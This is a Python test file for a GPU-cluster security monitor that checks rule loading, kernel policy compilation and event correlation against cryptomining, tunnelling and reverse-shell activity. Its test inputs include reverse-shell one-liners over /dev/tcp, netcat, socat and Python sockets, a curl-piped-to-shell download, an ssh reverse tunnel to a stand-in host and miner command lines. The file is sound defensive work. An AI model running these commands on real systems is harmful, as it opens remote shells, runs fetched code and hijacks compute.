"""Rules as data: loading, validation errors, matching, policy compilation, correlation (pure logic)."""

from __future__ import annotations

import pytest

from collector.correlate import Correlator
from collector.policy import compile_policy
from collector.rules.engine import Engine, JobContext
from collector.rules.loader import RuleError, load_ruleset, rule_texts
from gpuguard.v1 import events_pb2 as pb
from gpuguard.vocab import option_letters as short_options


@pytest.fixture(scope="module")
def builtin():
    return load_ruleset(rule_texts())


def exec_event(argv: list[str], filename: str = "", job: str = "4242", seq: int = 1, key: str = "k1",
               ancestors: tuple[str, ...] = ()) -> pb.Event:
    ev = pb.Event(seq=seq, ts_ns=seq * 1_000_000_000, exec=pb.Exec(filename=filename or argv[0], argv=argv))
    ev.job.kind, ev.job.id = "slurm", job
    ev.process.key, ev.process.pid = key, 100 + seq
    ev.process.comm = (filename or argv[0]).rsplit("/", 1)[-1][:15]
    ev.process.exe = filename or argv[0]
    for a in ancestors:
        ev.process.ancestors.add(key=a)
    return ev


def connect_event(port: int, addr: str = "203.0.113.7", key: str = "k1", seq: int = 2, exe: str = "/x") -> pb.Event:
    ev = pb.Event(seq=seq, ts_ns=seq * 1_000_000_000, connect=pb.Connect(daddr=addr, dport=port, proto="tcp"))
    ev.job.kind, ev.job.id = "slurm", "4242"
    ev.process.key, ev.process.exe = key, exe
    return ev


def rule_ids(engine: Engine, ev: pb.Event, ctx: JobContext | None = None) -> set[str]:
    return {m.rule.id for m in engine.evaluate("h1", ev, ctx or JobContext())}


def test_builtin_rules_load(builtin):
    assert {"miner-binary", "ssh-reverse-tunnel", "stratum-handshake", "reverse-shell-dev-tcp"} <= set(builtin.rules)
    assert builtin.default_mode == "enforce"


def test_builtin_lists_name_each_entry_once():
    """A list grown by hand over many passes repeats entries unseen; a repeat is harmless to matching but says the
    list was not read before it was extended."""
    from collections import Counter  # noqa: PLC0415

    import yaml  # noqa: PLC0415

    from collector.rules.loader import BUILTIN  # noqa: PLC0415

    lists = yaml.safe_load(BUILTIN.read_text())["lists"]
    repeats = {name: [v for v, n in Counter(map(str, items)).items() if n > 1] for name, items in lists.items()}
    assert {name: r for name, r in repeats.items() if r} == {}


@pytest.mark.parametrize("text,expected", [
    ("rules:\n  - id: x\n    description: d\n    event: exec\n    match:\n      argv_regex: '('\n",
     "bad.yaml:6: rule x.match.argv_regex: bad regex"),
    ("rules:\n  - id: x\n    description: d\n    event: connect\n    match:\n      dport_in: [22]\n"
     "    action: explode\n",
     "bad.yaml:7: rule x.action: 'explode' is not one of"),
    ("rules:\n  - id: x\n    description: d\n    event: connect\n    match:\n      dport_in: $nope\n",
     "bad.yaml:6: rule x.match.dport_in: unknown list '$nope'"),
    ("rules:\n  - id: x\n    event: exec\n    match: {argv_regex: a}\n", "bad.yaml:2: rule x: missing required field"),
    ("rules:\n  - id: x\n    description: d\n    event: exec\n    match: {dport_in: [22]}\n",
     "bad.yaml:5: rule x.match.dport_in: not available for event 'exec'"),
    ("rules: [\n", "bad.yaml:2: yaml:"),
])
def test_errors_name_file_line_and_field(text, expected):
    with pytest.raises(RuleError) as info:
        load_ruleset(rule_texts(extra=(("bad.yaml", text),)))
    assert str(info.value).startswith(expected), str(info.value)


@pytest.mark.parametrize("argv,expected", [
    (["/tmp/.x/xmrig", "-c", "config.json"], {"miner-binary", "exec-from-staging-dir", "exec-hidden-in-staging-dir"}),
    (["/opt/lolMiner", "--algo", "ETHASH", "--pool", "eu1.example:4444"], {"miner-binary", "miner-argv-shape"}),
    (["/usr/bin/python3", "run.py", "-o", "stratum+tcp://pool.example:3333", "-u", "4ABC"],
     {"miner-stratum-url", "miner-pool-and-user-flags"}),
    (["/opt/m", "--donate-level", "1", "-a", "rx/0"], {"miner-argv-shape"}),
    (["/usr/bin/ssh", "-NfR", "2222:localhost:22", "evil.example"], {"ssh-reverse-tunnel"}),
    (["/usr/bin/ssh", "-D", "1080", "-N", "proxy.example"], {"ssh-reverse-tunnel"}),
    (["/usr/bin/ssh", "-o", "RemoteForward=2222 localhost:22", "h"], {"ssh-forward-by-option"}),
    (["/usr/local/bin/chisel", "client", "h:8080", "R:socks"], {"tunnel-tool", "tunnel-argv-shape"}),
    (["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"], {"reverse-shell-dev-tcp"}),
    (["/usr/bin/nc", "203.0.113.9", "4444", "-e", "/bin/sh"], {"reverse-shell-netcat"}),
    (["/usr/bin/socat", "TCP:203.0.113.9:4444", "EXEC:/bin/sh,pty"], {"reverse-shell-netcat"}),
    (["/usr/bin/python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)"],
     {"reverse-shell-oneliner", "socket-wired-to-shell-in-code"}),     # the latter whatever the spelling
    (["/bin/sh", "-c", "curl -s http://x.example/i.sh | sh"], {"download-piped-to-shell"}),
])
def test_attack_shapes_match(builtin, argv, expected):
    assert rule_ids(Engine(builtin), exec_event(argv)) == expected


@pytest.mark.parametrize("argv", [
    ["/usr/bin/ssh", "-L", "8888:localhost:8888", "-N", "login.example"],
    ["/usr/bin/ssh", "-T", "git@git.example"],
    ["/usr/bin/ssh", "node2", "hostname"],
    ["/usr/bin/python3", "train.py", "--lr", "3e-4", "--epochs", "3"],
    ["/usr/bin/torchrun", "--nproc_per_node=8", "--rdzv_endpoint=node1:29400", "train.py"],
    ["/usr/bin/pip", "download", "numpy"],
    ["/usr/bin/nvidia-smi", "-q"],
    ["/usr/bin/git", "clone", "ssh://git@git.example/repo.git"],
    ["/usr/bin/mpirun", "-np", "4", "python3", "train.py"],
])
def test_benign_gpu_node_commands_stay_quiet(builtin, argv):
    assert rule_ids(Engine(builtin), exec_event(argv)) == set()


def test_failed_exec_matches_nothing(builtin):
    ev = exec_event(["/tmp/xmrig"])
    ev.exec.result = -2
    assert rule_ids(Engine(builtin), ev) == set()


def test_short_options_mirror_the_kernel_rule():
    assert short_options(["ssh", "-NfR", "1:h:2", "-oExitOnForwardFailure=yes", "-R8080:h:22", "--long"]) == \
        {"N", "f", "R", "o"}
    # clusters of any length; a letter that takes a value ends its cluster (the rest is the value)
    assert short_options(["ssh", "-fNqCD", "1080", "h"]) == {"f", "N", "q", "C", "D"}
    assert short_options(["ssh", "-vvvvvvvvfNTR", "1:h:2", "h"]) == {"v", "f", "N", "T", "R"}
    assert short_options(["ssh", "-lwww", "-oDynamicForward=1080", "h"]) == {"l", "o"}


def test_gpu_new_binary_and_pool_port_correlate(builtin):
    engine, corr = Engine(builtin), Correlator(builtin)
    train = exec_event(["/usr/bin/python3", "train.py"], key="main", seq=1)
    corr.observe("h1", train)
    first_gpu = pb.Event(seq=2, ts_ns=2_000_000_000, gpu_open=pb.GpuOpen(path="/dev/nvidia0"))
    first_gpu.job.kind, first_gpu.job.id = "slurm", "4242"
    first_gpu.process.key, first_gpu.process.exe = "main", "/usr/bin/python3"
    assert rule_ids(engine, first_gpu, corr.context("h1", first_gpu)) == {"gpu-opened-by-job-binary"}  # its trainer
    corr.observe("h1", first_gpu)
    miner_gpu = pb.Event(seq=3, ts_ns=3_000_000_000, gpu_open=pb.GpuOpen(path="/dev/nvidia0"))
    miner_gpu.job.kind, miner_gpu.job.id = "slurm", "4242"
    miner_gpu.process.key, miner_gpu.process.exe = "m", "/tmp/kworker"
    miner_gpu.process.ancestors.add(key="main")
    hits = engine.evaluate("h1", miner_gpu, corr.context("h1", miner_gpu))
    assert sorted(m.rule.id for m in hits) == ["gpu-open-new-binary", "gpu-used-from-staging-dir"]   # from /tmp
    assert corr.record("h1", miner_gpu, hits) == []
    pool = connect_event(3333, key="m", seq=4, exe="/tmp/kworker")
    pool_hits = engine.evaluate("h1", pool, corr.context("h1", pool))
    assert sorted(m.rule.id for m in pool_hits) == ["connect-mining-port", "connect-out-of-cluster",
                                                    "connect-pool-port"]
    fired = {c.id: hits for c, hits in corr.record("h1", pool, pool_hits)}
    assert set(fired) == {"new-gpu-binary-to-pool-port", "new-gpu-binary-talks-out"}
    assert [h.event.seq for h in fired["new-gpu-binary-to-pool-port"]] == [3, 4]
    assert corr.record("h1", pool, pool_hits) == []                     # fires once per job


def test_policy_compiles_kernel_enforceable_rules(builtin):
    policy = compile_policy(builtin, 7)
    ssh = [k for k in policy.argv_kill if k.rule_id == "ssh-reverse-tunnel"]   # option letters: whole-argv scan
    assert [(sorted(k.comms), k.options) for k in ssh] == [(["autossh", "dbclient", "plink", "ssh"], "RDw")]
    assert any(k.comm == "xmrig" and k.options == "" for k in policy.kill)
    stratum_url = [k for k in policy.argv_kill if k.rule_id == "miner-stratum-url"]
    assert [(list(k.all), sorted(k.any), list(k.comms)) for k in stratum_url] == \
        [([], ["stratum+", "stratum1+", "stratum2+"], [])]                   # any program, any of the literals
    oneliner = [(list(k.all), list(k.any)) for k in policy.argv_kill if k.rule_id == "reverse-shell-oneliner"]
    assert ([], ["fsockopen(", "-rsocket", "tcpsocket.new", "tcpsocket.open"]) in oneliner
    assert (["socket", "os.dup2"], []) in oneliner                          # a conjunction is its own entry
    assert not any(k.rule_id == "miner-argv-shape" for k in policy.argv_kill)  # argv regex: user space
    assert not any(k.rule_id == "argv-uninspectable" for k in policy.argv_kill)  # alert only
    stratum = [(s.rule_id, s.drop) for s in policy.payload if s.stratum]
    assert stratum == [("stratum-handshake", True)]
    assert list(policy.payload[0].scope.job_kinds) == ["slurm", "k8s", "container"]
    drops = {s.rule_id for s in policy.payload if s.drop}     # signal rules and user-space kills only report
    assert {"ssh-banner-unknown-client", "websocket-tunnel"} <= drops
    assert not drops & {"socks-connect", "miner-via-socks"}
    assert not any(k.scope.host_wide for k in policy.kill)                # built-ins never touch the host


def test_job_modes_split_enforce_and_monitor_scopes():
    rs = load_ruleset(rule_texts(extra=(("user.yaml", "job_modes: {'77': monitor}\n"),)))
    policy = compile_policy(rs, 1)
    xmrig = next(k for k in policy.kill if k.comm == "xmrig")
    assert list(xmrig.scope.exclude_job_ids) == ["77"]
    assert {(s.drop, tuple(s.scope.job_ids)) for s in policy.payload if s.stratum} == {(True, ()), (False, ("77",))}
    assert rs.mode_for("", "77") == "monitor" and rs.mode_for("", "78") == "enforce"


def test_user_file_overrides_and_extends(builtin):
    user = ("lists:\n  miner_names: [xmrig, my-internal-miner]\n"
            "rules:\n  - id: no-egress-to-prod-db\n    description: jobs must not reach the prod DB\n"
            "    event: connect\n    match: {daddr_cidr_in: [198.51.100.0/24], dport_in: [5432]}\n"
            "    scope: {job_kinds: [slurm]}\n    action: block\n")
    rs = load_ruleset(rule_texts(extra=(("user.yaml", user),)))
    policy = compile_policy(rs, 2)
    deny = [d for d in policy.deny if d.rule_id == "no-egress-to-prod-db"]
    assert [(d.cidr, d.port) for d in deny] == [("198.51.100.0/24", 5432)]
    assert rule_ids(Engine(rs), connect_event(5432, "198.51.100.20")) >= {"no-egress-to-prod-db"}
    assert rule_ids(Engine(rs), exec_event(["/opt/my-internal-miner"])) == {"miner-binary"}   # list override
    assert not any(k.comm == "lolMiner" for k in policy.kill)


def test_egress_allowlist_rule_compiles_to_kernel_allowlist():
    user = ("rules:\n  - id: job-egress\n    description: jobs reach only the cluster and the mirror\n"
            "    event: connect\n    match: {daddr_not_in: [10.0.0.0/8, 127.0.0.0/8]}\n"
            "    scope: {job_kinds: [slurm]}\n    action: block\n")
    rs = load_ruleset(rule_texts(extra=(("user.yaml", user),)))
    allow = [a for a in compile_policy(rs, 3).allow if a.rule_id == "job-egress"]
    assert [list(a.cidrs) for a in allow] == [["10.0.0.0/8", "127.0.0.0/8"]]
    assert rule_ids(Engine(rs), connect_event(443, "203.0.113.5")) >= {"job-egress"}
    assert "job-egress" not in rule_ids(Engine(rs), connect_event(443, "10.1.2.3"))


def test_pool_domains_resolved_by_the_collector_only_when_enabled():
    from collector.resolve import DomainResolver  # noqa: PLC0415

    user = "lists:\n  pool_domains: [localhost]\n"    # /etc/hosts only: no DNS traffic from tests
    rs = load_ruleset(rule_texts(extra=(("user.yaml", user),)))
    off = DomainResolver(enabled=False)
    assert rule_ids(Engine(rs, off), connect_event(443, "127.0.0.1")) == set()
    on = DomainResolver(enabled=True)
    engine = Engine(rs, on)
    assert on.names == {"localhost"}
    on.resolve_now()
    hits = engine.evaluate("h1", connect_event(443, "127.0.0.1"), JobContext())
    assert [(m.rule.id, m.matched["daddr_domain_in"]) for m in hits] == [("connect-pool-domain",
                                                                           "127.0.0.1 (localhost)")]
    with pytest.raises(RuleError, match="host names"):
        load_ruleset(rule_texts(extra=(("bad.yaml", "lists:\n  pool_domains: ['*.nanopool.org']\n"),)))


def test_shells_and_awk_are_denied_connects_in_jobs_by_identity():
    policy = compile_policy(load_ruleset(rule_texts()), 1)
    denied = {(n.comm, tuple(n.scope.job_kinds)) for n in policy.no_connect if n.rule_id == "shell-connect"}
    assert ("bash", ("slurm", "k8s", "container")) in denied and ("awk", ("slurm", "k8s", "container")) in denied
    assert not any(n.scope.host_wide for n in policy.no_connect)          # never on the host itself
    assert not any(n.comm in ("python3", "busybox") for n in policy.no_connect)


def test_reverse_shell_by_socket_stdio_is_a_kernel_kill_for_shells():
    policy = compile_policy(load_ruleset(rule_texts()), 1)
    kills = {k.comm for k in policy.kill if k.rule_id == "reverse-shell-stdio"}
    assert {"sh", "bash", "dash"} <= kills
    assert all(k.stdio_socket for k in policy.kill if k.rule_id == "reverse-shell-stdio")
    assert not any(k.stdio_socket for k in policy.kill if k.rule_id != "reverse-shell-stdio")
    engine = Engine(load_ruleset(rule_texts()))
    ev = pb.Event(seq=1, exec=pb.Exec(filename="/bin/bash", argv=["bash", "-i"], stdio=["socket", "socket", "other"]))
    ev.process.comm, ev.process.exe, ev.job.kind, ev.job.id = "bash", "/bin/bash", "slurm", "1"
    hits = {m.rule.id: m.matched for m in engine.evaluate("h", ev, None)}
    assert hits["reverse-shell-stdio"]["stdio_network"] == "fd0,fd1 on a socket"
    assert all(k.stdio_pipe_network for k in policy.kill if k.rule_id == "reverse-shell-stdio")


def test_egress_by_name_rule_lowers_to_an_allowlist_with_names_and_matches_in_user_space():
    from collector.policy import compile_policy  # noqa: PLC0415

    text = ("rules:\n  - id: egress-slurm\n    description: d\n    severity: high\n    event: connect\n"
            "    match: {dns_name_not_in: [pypi.org, hf.co], daddr_not_in: $cluster_networks}\n"
            "    scope: {job_kinds: [slurm]}\n    action: block\n")
    rs = load_ruleset(rule_texts(extra=(("egress.yaml", text),)))
    allow = [a for a in compile_policy(rs, 1).allow if a.rule_id == "egress-slurm"]
    assert len(allow) == 1 and list(allow[0].names) == ["pypi.org", "hf.co"] and "10.0.0.0/8" in allow[0].cidrs
    engine = Engine(rs)

    def fires(daddr: str, name: str) -> bool:
        ev = pb.Event(connect=pb.Connect(daddr=daddr, dport=443, proto="tcp", name=name))
        ev.job.kind, ev.job.id = "slurm", "1"
        return "egress-slurm" in {m.rule.id for m in engine.evaluate("h", ev, None)}

    assert not fires("203.0.113.5", "files.pypi.org") and not fires("203.0.113.5", "cdn-lfs.hf.co")
    assert fires("203.0.113.5", "evil.example") and fires("203.0.113.5", "")       # unlisted, unnamed
    assert not fires("10.1.2.3", "")                                                 # the cluster


def test_egress_suggest_prints_a_rule_that_loads():
    from gpuguard_cli.egress import suggest  # noqa: PLC0415

    def connect(job_kind: str, daddr: str, name: str) -> pb.Event:
        ev = pb.Event(connect=pb.Connect(daddr=daddr, dport=443, proto="tcp", name=name))
        ev.job.kind, ev.job.id = job_kind, "7"
        return ev

    events = [connect("slurm", "203.0.113.5", "files.pythonhosted.org"), connect("slurm", "203.0.113.6", "pypi.org"),
              connect("slurm", "203.0.113.6", "pypi.org"), connect("slurm", "198.51.100.9", ""),
              connect("slurm", "10.0.0.4", ""), connect("k8s", "203.0.113.7", "evil.example")]
    text, n = suggest(events, "slurm", ["10.0.0.0/8"], "yesterday")
    assert n == 5 and "evil.example" not in text and "198.51.100.0/24: 1 connects" in text
    rs = load_ruleset(rule_texts(extra=(("suggested.yaml", text),)))
    assert rs.rules["egress-slurm"].match["dns_name_not_in"] == ["pypi.org", "pythonhosted.org"]


def test_a_rule_marked_outside_scope_alerts_for_processes_outside_any_job_and_never_kills_there():
    """A miner started through an ssh session or systemd-run is outside every job: rules that mean the same
    everywhere (stratum URLs, reverse shells, pool names) alert there under their own id, never kill, and never
    feed a correlation."""
    from collector.correlate import Correlator  # noqa: PLC0415
    from collector.rules.engine import Engine  # noqa: PLC0415
    from collector.rules.loader import load_ruleset, rule_texts  # noqa: PLC0415
    from gpuguard.v1 import events_pb2 as pb  # noqa: PLC0415

    rs = load_ruleset(rule_texts())
    engine = Engine(rs)
    argv = ["/tmp/.x/kthreadd", "-o", "stratum+tcp://pool.example:3333", "-u", "4" + "A" * 94]

    def exec_in(kind: str, job_id: str) -> pb.Event:
        ev = pb.Event(exec=pb.Exec(filename=argv[0], argv=argv))
        ev.job.kind, ev.job.id = kind, job_id
        ev.process.pid, ev.process.key, ev.process.exe, ev.process.comm = 7, "k7", argv[0], "kthreadd"
        return ev

    in_job = {m.rule.id: m.rule.action for m in engine.evaluate("n1", exec_in("slurm", "42"), None)}
    assert in_job["miner-stratum-url"] == "kill"
    for kind, job_id in (("systemd", "session-3.scope"), ("host", "host"), ("systemd", "run-u7.service")):
        outside = {m.rule.id: m.rule.action for m in engine.evaluate("n1", exec_in(kind, job_id), None)}
        assert outside.get("miner-stratum-url.outside-scope") == "alert", (kind, outside)
        assert not {"block", "kill"} & set(outside.values()), outside      # nothing blocks or kills out there
        assert "miner-stratum-url" not in outside
    corr = Correlator(rs)
    ev = exec_in("host", "host")
    assert corr.record("n1", ev, engine.evaluate("n1", ev, None)) == []    # no correlation takes them as evidence
    plain = [r for r in rs.rules.values() if not r.outside_scope and r.event == "exec" and "argv_has" in r.match]
    assert plain, "some rules stay job-only (host admins' tools): the mark is per rule"


@pytest.mark.parametrize(("data", "target"), [
    (b"CONNECT pool.example:3333 HTTP/1.1\r\nHost: pool.example\r\n\r\n", ("pool.example", 3333, "HTTP")),
    (b"CONNECT [2001:db8::1]:22 HTTP/1.0\r\n\r\n", ("2001:db8::1", 22, "HTTP")),
    (b"CONNECT EU1.Nanopool.ORG:10300 HTTP/1.1", ("eu1.nanopool.org", 10300, "HTTP")),     # names: lower case
    (b"CONNECT a-very-long-name-cut-by-the-64-byte-excerpt.example", None),                 # no port: nothing
    (b"CONNECT :22 HTTP/1.1\r\n", None),
    (b"CONNECT host:99999 HTTP/1.1\r\n", None),
    (b"CONNECT host:22x HTTP/1.1\r\n", None),
    (b"GET / HTTP/1.1\r\n", None),
    (b"\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01\x00\x16", ("127.0.0.1", 22, "SOCKS")),
])
def test_a_proxy_request_names_whom_it_asks_for(data, target):
    from collector.rules.payload import proxy_target  # noqa: PLC0415

    assert proxy_target(data) == target


def test_a_correlation_may_need_any_one_of_several_rules():
    """requires: an item is a rule id, a list of them or a $list: any one of its rules' hits will do."""
    text = ("lists:\n  ways_out: [tunnel-tool, ssh-reverse-tunnel]\ncorrelations:\n"
            "  - id: out-then-gpu\n    description: d\n"
            "    requires: [$ways_out, [gpu-open-new-binary, gpu-busy-new-binary]]\n")
    rs = load_ruleset(rule_texts(extra=(("c.yaml", text),)))
    corr = rs.correlations["out-then-gpu"]
    assert corr.needs == [("tunnel-tool", "ssh-reverse-tunnel"), ("gpu-open-new-binary", "gpu-busy-new-binary")]
    assert set(corr.requires) == {"tunnel-tool", "ssh-reverse-tunnel", "gpu-open-new-binary", "gpu-busy-new-binary"}
    bad = ("correlations:\n  - id: x\n    description: d\n"
           "    requires: [[tunnel-tool, no-such-rule], gpu-open-new-binary]\n")
    with pytest.raises(RuleError, match="unknown rule id 'no-such-rule'"):
        load_ruleset(rule_texts(extra=(("bad.yaml", bad),)))


def test_a_discovery_burst_is_reported_once_per_burst(builtin):
    """Each discovery command is a process of its own: the burst is one report (when the sixth kind comes), not one
    per command after it; a burst a minute later is reported again."""
    engine, ctx = Engine(builtin), JobContext()
    commands = [["/usr/bin/whoami"], ["/usr/bin/uname", "-a"], ["/usr/bin/cat", "/etc/passwd"], ["/usr/bin/ss", "-tln"],
                ["/usr/bin/ps", "aux"], ["/usr/bin/last"], ["/usr/sbin/arp", "-a"], ["/usr/bin/groups"]]   # 8 kinds

    def burst(start_s: int) -> list[int]:
        fired = []
        for i, argv in enumerate(commands):
            ev = exec_event(argv, seq=start_s + i, key=f"k{start_s + i}")
            ev.ts_ns = (start_s + i) * 10**9
            if "discovery-burst" in rule_ids(engine, ev, ctx):
                fired.append(i)
        return fired

    assert burst(1000) == [5]                  # the sixth kind, and none of the two after it
    assert burst(1100) == [5]                  # a minute and more later: a new burst (the old kinds aged out)


def test_the_argv_gate_gives_the_verdicts_of_every_pattern_searched_alone(builtin):
    """collector/rules/engine.py searches every argv_regex of an index at once (RE2's FilteredRE2) and passes over
    the rules whose pattern does not match: the same matches as searching each pattern alone, on every exec case of
    the corpus, on a one-line script split over lines, and with the match at the end of a megabyte of junk."""
    import random  # noqa: PLC0415
    import string  # noqa: PLC0415

    from tests import test_rule_corpus as corpus  # noqa: PLC0415

    gated, alone = Engine(builtin), Engine(builtin)
    for index in (alone.by_event.get("exec"), alone.stateful.get("exec")):
        if index is not None:
            index.gate = None
    assert gated.by_event["exec"].gate is not None and len(gated.by_event["exec"].gate.slot) > 50
    rnd = random.Random(7)
    chars = string.ascii_letters + string.digits + string.punctuation + " "
    junk = "".join(rnd.choice(chars) for _ in range((1 << 20) - 100))            # under the search cap
    specs = [c["exec"] for c in corpus.CORPUS["cases"] if "exec" in c]
    specs += [{"argv": ["sh", "-c", "python train.py\nreboot -f\n"]},
              {"argv": ["sh", "-c", junk + " ; curl -s http://198.51.100.7/i.sh | sh"]}]
    fired = 0
    for spec in specs:
        ev = corpus.exec_event(spec)
        want = {m.rule.id for m in alone.evaluate("h", ev, JobContext())}
        assert {m.rule.id for m in gated.evaluate("h", ev, JobContext())} == want, spec["argv"][:3]
        fired += bool(want)
    assert fired > 300                     # the cases exercise the gate: most fire something
    assert "download-piped-to-shell" in {m.rule.id for m in gated.evaluate("h", ev, JobContext())}   # the last
